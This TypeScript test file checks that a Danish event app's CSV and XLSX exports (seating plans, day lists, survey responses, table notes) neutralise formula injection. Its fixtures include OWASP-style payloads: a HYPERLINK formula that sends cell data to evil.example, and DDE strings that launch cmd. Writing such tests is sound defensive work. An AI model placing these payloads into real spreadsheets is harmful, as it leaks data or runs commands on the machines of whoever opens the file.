import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { SeatingPlan } from '../domain/seating-plan.ts';
import type { SeatingParticipant } from '../domain/seating-roster.ts';
import type { ParticipantRow } from '../domain/participant-list.ts';
import { da } from '../web/i18n/da.ts';
import { buildDayList } from './day-lists.ts';
import { renderSeatingPlanCsv } from './seating-plan-csv.ts';
import { renderSeatingPlanXlsx } from './seating-plan-xlsx.ts';
import { neutraliseFormula } from './spreadsheet-cell.ts';
import { renderSurveyResponsesCsv, renderSurveyResponsesXlsx } from './survey-responses.ts';
import { renderTableCsv, renderTableXlsx } from './table-document.ts';
import { renderTableNotesCsv } from './table-notes-csv.ts';

// What an attacker types as a name, a need or an answer (OWASP's CSV injection examples).
const hostile = ['=HYPERLINK("http://evil.example/?"&A1;"klik")', '+45+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

const csvCells = (csv: string) => (parse(csv.replace(/^\uFEFF/, ''), { delimiter: ';', relax_column_count: true }) as string[][]).flat();
// XML reads a carriage return back as a line feed.
const readXml = (text: string) => text.replace(/\r/g, '\n');
async function xlsxCells(file: Buffer): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(file as unknown as ArrayBuffer);
  const cells: string[] = [];
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) => row.eachCell((cell) => {
      assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `a formula cell ${cell.address}`);
      cells.push(String(cell.value));
    }));
  }
  return cells;
}

/** Every hostile text is in the file, and only with the leading quote. */
function assertNeutralised(cells: string[], read: (text: string) => string = (text) => text) {
  for (const text of hostile.map(read)) {
    assert.ok(cells.includes(`'${text}`), `missing the quoted ${JSON.stringify(text)}`);
    assert.ok(!cells.includes(text), `${JSON.stringify(text)} would run as a formula`);
  }
}

const person = (id: string, name: string): SeatingParticipant => ({
  id, name, email: `${id}@example.dk`, status: 'confirmed', groupId: 'g', groupName: 'Borgere', facilitator: false,
  areaId: null, areaName: null, organisationId: null, organisationName: null, accessibilityNeeds: '',
});
const people = hostile.map((name, i) => person(`p${i}`, name));
// Only what the renderers read of a plan: its tables and rounds.
const plan = {
  settings: { tables: [{ id: 't1', name: 'Bord 1', size: 8, accessible: false }] },
  rounds: [{ tables: [{ id: 't1', people: people.map((p) => p.id) }] }],
} as unknown as SeatingPlan;

const row = (id: string, name: string): ParticipantRow => ({
  id, name, email: `${id}@example.dk`, status: 'confirmed', groupId: 'g', groupName: 'Borgere', organisationId: null, organisationName: name,
  areaId: null, areaName: null, dietNeeds: name, accessibilityNeeds: name, consentPhotos: false, phone: name, sharesContacts: true, answeredAt: null, checkedInAt: null,
});
const dayList = buildDayList('everyone', { summitTitle: 'Topmøde', rows: hostile.map((name, i) => row(`p${i}`, name)), tables: [] }, da.participants.dayList);

const responses = { header: ['Svar-id', 'Spørgsmål'], rows: hostile.map((text, i) => [String(i), text]) };

describe('spreadsheet exports never write a cell that runs as a formula', () => {
  it('quotes a text that starts with =, +, -, @, tab or carriage return, and nothing else', () => {
    for (const text of hostile) assert.equal(neutraliseFormula(text), `'${text}`);
    for (const text of ['Ane Jensen', 'a=b', ' =1', '']) assert.equal(neutraliseFormula(text), text);
    assert.equal(neutraliseFormula(-3), -3);
  });

  it('the table plan as CSV', () => {
    assertNeutralised(csvCells(renderSeatingPlanCsv(plan, people, da.seating)));
  });

  it('the table plan as XLSX', async () => {
    assertNeutralised(await xlsxCells(await renderSeatingPlanXlsx(plan, people, da.seating, 'Topmøde')), readXml);
  });

  it('the lists for the day as CSV', () => {
    assertNeutralised(csvCells(renderTableCsv(dayList)));
  });

  it('the lists for the day as XLSX', async () => {
    assertNeutralised(await xlsxCells(await renderTableXlsx(dayList)), readXml);
  });

  it('the survey responses as CSV', () => {
    assertNeutralised(csvCells(renderSurveyResponsesCsv(responses)));
  });

  it('the survey responses as XLSX', async () => {
    assertNeutralised(await xlsxCells(await renderSurveyResponsesXlsx(responses, 'Topmøde', 'Svar')), readXml);
  });

  it('the table notes as CSV', () => {
    const notes = hostile.map((text, i) => ({ summitId: 's', round: 1, tableId: `t${i}`, tableName: `Bord ${i}`, writtenBy: 'f', keyPoints: text, proposals: [text], updatedAt: '' }));
    assertNeutralised(csvCells(renderTableNotesCsv(notes, [{ id: 'm', text: hostile[0]!, sources: [{ round: 1, tableName: 'Bord 1' }] }], da.afterSummit.notes.csv)));
  });
});
